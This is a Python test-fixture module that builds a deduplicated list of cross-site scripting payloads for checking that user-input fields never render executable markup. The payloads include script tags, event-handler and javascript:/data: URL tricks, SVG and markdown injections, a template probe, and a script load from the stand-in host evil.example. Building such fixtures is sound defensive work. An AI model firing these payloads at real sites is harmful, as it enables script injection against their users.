"""Hostile strings from public knowledge of cross-site scripting, written out for our tests.

Each one is typed into every place a user writes; none may come out executable.
"""

EVENT_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "onwheel",
    "oninput",
    "onkeydown",
    "onauxclick",
    "onbeforeprint",
    "onhashchange",
    "onpageshow",
    "onscroll",
    "ontransitionend",
    "onsubmit",
]

HANDLER_FORMS = [
    "<img src=x {h}=alert(1)>",
    "<svg {h}=alert(1)>",
    '<div {h}="alert(1)" tabindex=1 autofocus>x</div>',
    '<a href="#" {h}=alert`1`>x</a>',
    "<body {h}=alert(1)>",
    "<details open {h}=alert(1)>",
    "<input autofocus {h}=alert(1)>",
]

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)</script>**bold**",
    "<script\n>alert(1)</script\n>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]

URL_TRICKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "javascript&colon;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "%6a%61%76%61%73%63%72%69%70%74:alert(1)",
]

URL_FORMS = [
    "[click]({u})",
    "![alt]({u})",
    '<a href="{u}">x</a>',
    '<iframe src="{u}"></iframe>',
    "[ref][1]\n\n[1]: {u}",
    "<{u}>",
]

OTHER_TAGS = [
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<img src="x" style="x:expression(alert(1))">',
    "<table background=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
    '&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    "<b <script>alert(1)</script>0",
    "<div><p>unclosed <b>tags <i>everywhere",
    "</div></main></body><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "{{ 7*7 }}{% debug %}",
    "${alert(1)}",
    '[x](javascript:alert(1) "title")',
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    '![x](x" onerror="alert(1))',
    '[x](https://ok.example" onclick="alert(1))',
    '![x](/media/x.png "\\" onerror=\\"alert(1)")',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "[^1]\n\n[^1]: <script>alert(1)</script>[x](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "\u202e<script>alert(1)</script>",
]


def all_payloads() -> list[str]:
    payloads = list(SCRIPT_TAGS) + list(OTHER_TAGS)
    payloads += [form.format(h=handler) for handler in EVENT_HANDLERS for form in HANDLER_FORMS[:3]]
    payloads += [form.format(h=handler) for handler in EVENT_HANDLERS[:5] for form in HANDLER_FORMS[3:]]
    payloads += [form.format(u=url) for url in URL_TRICKS for form in URL_FORMS[:3]]
    payloads += [form.format(u=url) for url in URL_TRICKS[:6] for form in URL_FORMS[3:]]
    seen = set()
    return [p for p in payloads if not (p in seen or seen.add(p))]
